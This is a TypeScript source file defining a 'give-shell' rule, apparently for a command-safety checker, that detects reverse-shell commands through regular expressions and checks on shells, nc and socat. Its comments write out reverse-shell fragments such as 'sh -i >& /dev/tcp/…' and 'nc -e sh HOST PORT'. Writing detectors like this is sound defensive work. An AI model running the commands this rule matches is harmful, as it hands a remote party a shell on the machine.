import { hasFlag, isShell, kindOf, columnOf } from "../../shell/doors/programs.ts";
import { operandsOf } from "../../shell/doors/options.ts";
import { isConnection, MAY_CONNECT, SOCKET } from "./connections.ts";
import type { CommandView, HarmRule } from "./rule.ts";

/**
 * Matches code that hands a connection to a shell: it copies the connection's number, or starts a shell by its name.
 */
const STARTS_SHELL =
  /\bdup2\b|pty\.spawn|["'\x60](?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k|a)?sh(?:\s-\w+)?["'\x60 ]|\bcmd(?:\.exe)?["'\x60]|\bpowershell\b/;
/** Matches an address of socat that starts a shell. */
const EXEC_OF_SOCAT = /^(?:exec|system|shell):["']?(?:[^,"']*[/\s])?(?:ba|z|da|k|a)?sh\b/i;
/** Matches an address of socat that is a connection to other machines. */
const FAR_OF_SOCAT = /^(?:tcp|udp|ssl|openssl|sctp|socks|proxy)\w*(?:-\w+)*:/i;

/** The rule for commands that give another machine a shell of this one. */
export const GIVE_SHELL: HarmRule = {
  name: "give-shell",
  level: "unrecorded",
  programs: "*",
  byRedirection: "any",
  words: MAY_CONNECT,
  does: "gives whoever is at the other end of a connection a shell on this machine",
  instead: "Run the commands here, or leave the connection to the person.",
  matches: (view) => isConnectedShell(view) || isShellOfProgram(view) || isShellOfCode(view),
};

/** Whether a shell that is given no script takes it from a connection, or answers to one: `sh -i >& /dev/tcp/…`. */
function isConnectedShell(view: CommandView): boolean {
  const { name, own } = view;
  const isUnnamed = name.startsWith("$") && view.isConnected;
  if (!isUnnamed && !isShell(name)) return false;
  const { writes, appends, isConnected, pipeline, elsewhere } = view;
  const isBare = operandsOf(own).length === 0 && !own.some((word) => /^-\w*n/.test(word));
  if (elsewhere || !(isBare || isUnnamed)) return false;
  if (isConnected || [...writes, ...appends].some(isConnection)) return true;
  return pipeline.some((one) => columnOf(one, "connects") !== undefined);
}

/** Whether a program connects a shell itself: `nc -e sh HOST PORT`, `socat tcp:HOST:PORT exec:sh`. */
function isShellOfProgram({ name, own }: CommandView): boolean {
  if (name === "socat")
    return own.some((word) => EXEC_OF_SOCAT.test(word)) && own.some((word) => FAR_OF_SOCAT.test(word));
  return hasFlag(own, columnOf(name, "connects"));
}

/** Whether code connects to another machine and starts a shell. */
function isShellOfCode({ name, own, fed }: CommandView): boolean {
  if (kindOf(name) !== "code") return false;
  return [...own, ...fed].some((text) => SOCKET.test(text) && STARTS_SHELL.test(text));
}
